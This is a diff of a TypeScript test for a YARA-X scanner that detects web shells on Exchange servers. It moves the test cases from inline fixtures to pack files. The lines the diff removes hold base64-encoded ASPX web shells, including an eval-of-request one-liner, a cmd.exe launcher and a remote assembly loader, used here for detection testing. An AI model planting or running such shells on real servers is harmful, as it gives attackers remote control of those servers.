@@ -10,6 +10,7 @@ import { assess, loadContent, packSignatures } from '../../src/assess.ts';
 import type { Assessment } from '../../src/core/assessment.ts';
 import { nodePlatform } from '../../src/host/node-platform.ts';
 import { yaraX } from '../../src/host/yara-x.ts';
+import { isSignatureCase, readSignatureCase } from '../../src/packs/index.ts';
 import { checkSource, type Engine, GroupScan, inlineExecutor, inlineSignatures } from '../../src/run/index.ts';
 
 const home = path.resolve(import.meta.dirname, '..', '..');
@@ -21,45 +22,12 @@ beforeAll(async () => {
   engine = await yaraX();
 });
 
-const decoded = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'base64'));
-const plain = (text: string): Uint8Array => new Uint8Array(Buffer.from(text));
-
-/** Rule → a page it is made for, and one that comes as close as ordinary ones do. */
-const cases: readonly (readonly [rule: string, name: string, positive: Uint8Array, benign: Uint8Array])[] = [
-  [
-    'page_evaluates_what_it_is_sent',
-    'a.aspx',
-    decoded('PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJ4Il0sInVuc2FmZSIpOyU+'),
-    plain('<%@ Page Language="C#" %><asp:Label runat="server" Text=\'<%# Eval("Name") %>\' /><%= Request.QueryString["id"] %>'),
-  ],
-  [
-    'address_book_dump_with_script',
-    'b.aspx',
-    decoded(
-      'UG9sbEludGVydmFsICAgICAgICAgICAgICA6IDQ4MA0KT2ZmbGluZUFkZHJlc3NCb29rcyAgIDogDQpJbnRlcm5hbFVybCA6IGh0dHBzOi8vbWFpbC5leGFtcGxlL09BQg0KRXh0ZXJuYWxVcmwgOiBodHRwOi8vZi88c2NyaXB0IGxhbmd1YWdlPSJKU2NyaXB0IiBydW5hdD0ic2VydmVyIj4vKiBub3RoaW5nICovPC9zY3JpcHQ+DQo=',
-    ),
-    plain(
-      'PollInterval : 480\r\nOfflineAddressBooks :\r\nInternalUrl : https://mail.example/OAB\r\nExternalUrl : https://mail.example/OAB\r\n',
-    ),
-  ],
-  [
-    'page_starts_a_program_of_the_request',
-    'c.aspx',
-    decoded(
-      'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPjwlIHZhciBwID0gbmV3IFByb2Nlc3NTdGFydEluZm8oImNtZC5leGUiLCAiL2MgIiArIFJlcXVlc3QuRm9ybVsiYSJdKTsgcC5SZWRpcmVjdFN0YW5kYXJkT3V0cHV0ID0gdHJ1ZTsgJT4=',
-    ),
-    plain('<%@ Page Language="C#" %><p>Start the tool with Process.Start(name); see the manual.</p><%= Request.Url %>'),
-  ],
-  [
-    'page_loads_code_of_the_request',
-    'd.aspx',
-    decoded(
-      'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPjwlIFJlZmxlY3Rpb24uQXNzZW1ibHkuTG9hZChDb252ZXJ0LkZyb21CYXNlNjRTdHJpbmcoUmVxdWVzdC5Gb3JtWyJhIl0pKTsgJT4=',
-    ),
-    plain('<%@ Page Language="C#" %><% var key = Convert.FromBase64String(Request.Cookies["s"].Value); %>'),
-  ],
-  ['mailbox_export_as_page', 'e.aspx', plain('!BDN and mails'), plain('<html>!BDN</html>')],
-];
+/** Rule → a page it is made for, and one that comes as close as ordinary ones do: the cases of the packs, stored encoded. */
+const cases = nodePlatform.assets
+  .list('packs')
+  .filter(isSignatureCase)
+  .map((file) => readSignatureCase({ path: file, text: nodePlatform.assets.text(file) }))
+  .map(({ rule, positive, benign }) => [rule, positive[0]!.name, positive[0]!.bytes, benign[0]!.bytes] as const);
 
 describe('the signatures of the packs', () => {
   test('compile', () => {
@@ -101,7 +69,7 @@ describe('an assessment with signatures', () => {
     await scanner.close();
     return assessment;
   }
-  const [, , page] = cases[0]!;
+  const [, , page] = cases.find(([rule]) => rule === 'page_evaluates_what_it_is_sent')!;
   const web = 'C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth';
   let folder: string;
   beforeAll(() => {
